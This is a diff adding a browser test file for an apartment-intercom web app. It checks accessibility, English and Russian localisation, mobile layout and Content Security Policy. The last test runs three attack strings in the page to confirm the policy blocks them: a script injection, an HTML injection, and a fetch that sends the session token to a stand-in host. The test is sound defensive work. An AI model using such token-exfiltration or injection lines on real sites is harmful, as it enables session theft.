@@ -1,0 +1,67 @@
+import { expect } from 'vitest';
+import { itInChromium, personAt, useBrowser } from '../support/browser.ts';
+import { HOUSES } from '../support/houses.ts';
+import { start } from '../support/start.ts';
+
+const browser = useBrowser();
+
+const SCREENS: readonly (readonly [place: string, en: string, ru: string])[] = [
+  ['#/', 'Overview', 'Обзор'],
+  ['#/flats', 'Flats', 'Квартиры'],
+  ['#/flats?address=nowhere', 'Flats', 'Квартиры'],
+  ['#/intercoms/1', '12 Garden Street, entrance 1', '12 Garden Street, entrance 1'],
+  ['#/intercoms/1/102', '12 Garden Street, entrance 1', '12 Garden Street, entrance 1'],
+  ['#/intercoms/99', 'Building 99', 'Дом 99'],
+  ['#/history', 'History', 'История'],
+  ['#/nothing', 'There is no such page.', 'Такой страницы нет.'],
+];
+
+for (const locale of ['en-GB', 'ru-RU']) {
+  itInChromium(
+    `every screen in ${locale}, light and dark: nothing for axe, the policy or another site`,
+    async () => {
+      await using world = await start({ flats: HOUSES });
+      await world.patch({ intercom_id: 1, flat: 102, is_analog_line_available: true });
+      await using person = await personAt(await browser(), world.url, { locale });
+      const { page } = person;
+      for (const [place, en, ru] of SCREENS) {
+        await person.open(place);
+        await page.getByRole('heading', { level: 1, name: locale === 'en-GB' ? en : ru, exact: true }).waitFor();
+        // Until all is read.
+        await expect.poll(() => page.locator('.late').count()).toBe(0);
+        await page.emulateMedia({ colorScheme: 'light' });
+        expect([place, await person.objections()]).toEqual([place, []]);
+        await page.emulateMedia({ colorScheme: 'dark' });
+        expect([place, await person.objections(['color-contrast'])]).toEqual([place, []]);
+      }
+      expect(await page.evaluate('document.documentElement.lang')).toBe(locale.slice(0, 2));
+      await world.bearer('read');
+      await person.open('#/flats?gate');
+      await page.getByRole('heading', { level: 1, name: locale === 'en-GB' ? 'Sign in' : 'Вход' }).waitFor();
+      expect(await person.objections()).toEqual([]);
+      expect(person.troubles).toEqual([]);
+    },
+    60_000,
+  );
+}
+
+itInChromium('a phone of 360 pixels never scrolls sideways, and scripts from elsewhere are stopped', async () => {
+  await using world = await start({ flats: HOUSES });
+  await using person = await personAt(await browser(), world.url, { viewport: { width: 360, height: 700 } });
+  for (const [place, title] of SCREENS) {
+    await person.open(place);
+    await person.page.getByRole('heading', { level: 1, name: title, exact: true }).waitFor();
+    expect([place, await person.page.evaluate('document.documentElement.scrollWidth')]).toEqual([place, 360]);
+  }
+  expect(person.troubles).toEqual([]);
+  for (const attack of [
+    "document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,1' }))",
+    "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
+    "fetch('https://elsewhere.example/?' + sessionStorage.getItem('token'))",
+  ]) {
+    await person.page.evaluate(`(async () => { try { await ${attack} } catch {} })()`);
+  }
+  await expect
+    .poll(() => person.troubles.map((it) => it.split(' ')[1]))
+    .toEqual(['require-trusted-types-for', 'require-trusted-types-for', 'connect-src']);
+});
